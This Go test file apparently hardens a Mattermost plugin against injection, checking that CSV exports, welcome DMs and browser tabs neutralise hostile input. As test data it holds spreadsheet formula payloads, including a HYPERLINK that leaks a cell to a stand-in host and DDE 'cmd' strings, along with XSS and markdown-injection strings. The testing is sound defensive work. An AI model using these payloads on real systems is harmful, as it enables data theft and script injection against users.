package cockpit

// Injection is inert where the server puts admin- or user-controlled text: a plan task's title and
// notes carrying spreadsheet formulas and markup come back out of every CSV export neutralised (no
// cell a spreadsheet would run), and a user whose first name is markdown/HTML/mention text gets a
// welcome DM in which all of it is escaped (stored post text, read back from the server).
//
// Every CSV export is found from the route table (GET routes ending in /export, asked for
// ?format=csv), so exports added later are checked too.

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/mattermost/mattermost/server/public/model"
)

// formulaPayloads are what a spreadsheet would run if a cell started with them.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.test/?leak="&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
}

const markupPayload = `<img src=x onerror=alert(1)><script>alert(2)</script> **bold** [x](javascript:alert(3)) @all`

// formulaStarts are the first characters that make a spreadsheet cell a formula (OWASP CSV injection).
const formulaStarts = "=+-@\t\r"

func TestHardeningCSVExportsNeutraliseFormulas(t *testing.T) {
	lockPlan(t)
	restorePlanAtCleanup(t)
	f := hardeningCallers(t)
	tok := f.admin.token

	// Hostile text into the plan (title and notes of one task): the audit trail records before/after.
	cur := getPlan(t)
	_, task := firstRequiredTask(cur)
	notes := strings.Join(formulaPayloads, "\n") + "\n" + markupPayload
	if r := patchTask(t, tok, task.ID, cur.Plan.Version, map[string]any{"title": formulaPayloads[0], "notes": notes}); r.Status != http.StatusOK {
		t.Fatalf("PATCH the task with hostile text: %s", r)
	}

	routes := loadRouteTable(t)
	var checked []string
	sawPayload := false
	for _, r := range routes {
		if r.Method != http.MethodGet || !strings.HasSuffix(r.Path, "/export") {
			continue
		}
		route := f.fillRoute(r).url
		sep := "?"
		if strings.Contains(route, "?") {
			sep = "&"
		}
		res := requestRoute(t, http.MethodGet, route+sep+"format=csv", tok, nil)
		if res.Status != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
			// Not a CSV export (JSON only), or one needing a real entity id (e.g. a wave's).
			continue
		}
		rd := csv.NewReader(strings.NewReader(string(res.Body)))
		rd.FieldsPerRecord = -1
		records, err := rd.ReadAll()
		if err != nil {
			t.Errorf("%s: not valid CSV: %v", r.Path, err)
			continue
		}
		for i, rec := range records {
			for j, cell := range rec {
				if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
					t.Errorf("%s row %d col %d starts a formula: %q", r.Path, i+1, j+1, cell)
				}
				if strings.Contains(cell, "HYPERLINK") {
					sawPayload = true
				}
			}
		}
		checked = append(checked, fmt.Sprintf("%s (%d rows)", r.Path, len(records)))
	}
	if len(checked) == 0 {
		t.Fatal("no CSV export answered: nothing was checked")
	}
	if !sawPayload {
		t.Errorf("the hostile task title is in none of the CSV exports (%s): the check proved nothing", strings.Join(checked, ", "))
	}
	t.Logf("CSV exports checked: %s", strings.Join(checked, "; "))
}

// markdownSpecials are the characters that start a Markdown/Mattermost construct.
const markdownSpecials = "\\`*_{}[]()#+-.!|<>~:&=$"

func TestHardeningWelcomeDMEscapesUserText(t *testing.T) {
	f := hardeningCallers(t)
	admin := model.NewAPIv4Client(env.s.URL)
	admin.SetToken(f.admin.token)
	me, _, err := admin.GetMe(ctx(t), "")
	if err != nil {
		t.Fatal(err)
	}
	hostile := "*B* [x](javascript:a) @all <img src=x> #h |t| =1+1"
	if _, _, err := admin.PatchUser(ctx(t), me.Id, &model.UserPatch{FirstName: &hostile}); err != nil {
		t.Fatalf("set a hostile first name: %v", err)
	}
	t.Cleanup(func() {
		name := "Admin"
		_, _, _ = admin.PatchUser(ctx(t), me.Id, &model.UserPatch{FirstName: &name})
	})

	// A draft wave (never started), deleted at the end.
	var wave waveResponse
	waveCall(t, http.MethodPost, "/api/v1/waves", f.admin.token, map[string]any{
		"name":    "hardening " + model.NewId()[:6],
		"cohort":  map[string]any{"team_ids": []string{f.team.Id}},
		"targets": map[string]any{"teams": []map[string]any{{"team_id": f.otherTeam.Id}}},
		"welcome": map[string]any{"enabled": true, "template": "Hi {{first_name}}!", "help_link": ""},
	}, http.StatusCreated, &wave)
	t.Cleanup(func() {
		r := requestRoute(t, http.MethodDelete, "/api/v1/waves/"+wave.ID, f.admin.token, mustJSON(t, map[string]any{"expected_version": wave.Version}))
		if r.Status != http.StatusOK {
			t.Errorf("delete the draft wave: %s", r)
		}
	})

	r := requestRoute(t, http.MethodPost, "/api/v1/waves/"+wave.ID+"/welcome/test-send", f.admin.token, []byte(`{}`))
	if r.Status != http.StatusOK {
		t.Fatalf("welcome test-send: %s", r)
	}
	var sent struct {
		PostID string `json:"post_id"`
	}
	if err := json.Unmarshal(r.Body, &sent); err != nil || sent.PostID == "" {
		t.Fatalf("test-send answer %s: %v", r, err)
	}
	post, _, err := admin.GetPost(ctx(t), sent.PostID, "")
	if err != nil {
		t.Fatalf("read the DM back: %v", err)
	}
	msg := post.Message
	if !strings.HasPrefix(msg, "Hi ") || !strings.HasSuffix(msg, "!") {
		t.Fatalf("DM %q is not the template", msg)
	}
	name := strings.TrimSuffix(strings.TrimPrefix(msg, "Hi "), "!")
	if strings.Contains(name, "@") {
		t.Errorf("the DM keeps an @ from the name (a mention would notify): %q", msg)
	}
	// Every markdown special from the name is escaped with a backslash (an escaped backslash counts as one).
	runes := []rune(name)
	for i := 0; i < len(runes); i++ {
		if runes[i] == '\\' {
			i++ // the escaped character
			continue
		}
		if strings.ContainsRune(markdownSpecials, runes[i]) {
			t.Errorf("unescaped %q at %d in the DM's name %q", runes[i], i, name)
		}
	}
	// Nothing of the name was dropped: unescaped it reads as the original (the @ as ＠).
	plain := strings.NewReplacer("\\", "").Replace(name)
	if want := strings.ReplaceAll(hostile, "@", "＠"); plain != want {
		t.Errorf("the DM's name unescaped is %q, want %q", plain, want)
	}
	t.Logf("welcome DM stored by the server: %q", msg)
}

// TestBrowserHardeningInjection stores hostile markup through the API wherever an admin can put
// text that the cockpit shows today (a plan phase's title and description, a task's title and
// notes — also in the audit trail — and a draft wave's name and welcome template), then opens
// every cockpit tab in Chromium (e2e/browser/hardening.spec.mjs): nothing runs, nothing is injected,
// and the Plan tab shows the hostile title as text. Screenshots: e2e/artifacts/hardening-<tab>.png.
func TestBrowserHardeningInjection(t *testing.T) {
	lockPlan(t)
	restorePlanAtCleanup(t)
	tok := env.adminClient.AuthToken
	payload := func(where string) string {
		return `<img data-hardening src=x onerror="window.__xss='` + where + `'"> [x](javascript:window.__xss='` + where + `-link')`
	}
	title := "Hostile " + payload("task")
	cur := getPlan(t)
	phase, task := firstRequiredTask(cur)
	if r := patchTask(t, tok, task.ID, cur.Plan.Version, map[string]any{
		"title": title,
		"notes": `<script data-hardening>window.__xss='notes'</script><svg data-hardening onload="window.__xss='svg'"></svg> **bold** ` + payload("notes"),
	}); r.Status != http.StatusOK {
		t.Fatalf("PATCH the task: %s", r)
	}
	cur = getPlan(t)
	if r := call(t, http.MethodPatch, "/api/v1/plan/phases/"+phase.ID, tok, mustJSON(t, map[string]any{
		"expected_version": cur.Plan.Version,
		"changes":          map[string]any{"title": "Phase " + payload("phase"), "description": `<iframe data-hardening src="javascript:window.__xss='iframe'"></iframe>`},
	})); r.Status != http.StatusOK {
		t.Fatalf("PATCH the phase: %s", r)
	}

	var wave waveResponse
	waveCall(t, http.MethodPost, "/api/v1/waves", tok, map[string]any{
		"name":    "Wave " + payload("wave"),
		"cohort":  map[string]any{"team_ids": []string{env.teamA.Id}},
		"targets": map[string]any{"teams": []map[string]any{{"team_id": env.teamB.Id}}},
		"welcome": map[string]any{"enabled": true, "template": "Hi {{first_name}} " + payload("welcome"), "help_link": ""},
	}, http.StatusCreated, &wave)
	t.Cleanup(func() {
		if r := requestRoute(t, http.MethodDelete, "/api/v1/waves/"+wave.ID, tok, mustJSON(t, map[string]any{"expected_version": wave.Version})); r.Status != http.StatusOK {
			t.Errorf("delete the draft wave: %s", r)
		}
	})

	runBrowserSpec(t, "hardening.spec.mjs", "HOSTILE_TITLE="+title, "HARDENING_SCREENSHOT_DIR="+artifactsDir())
}
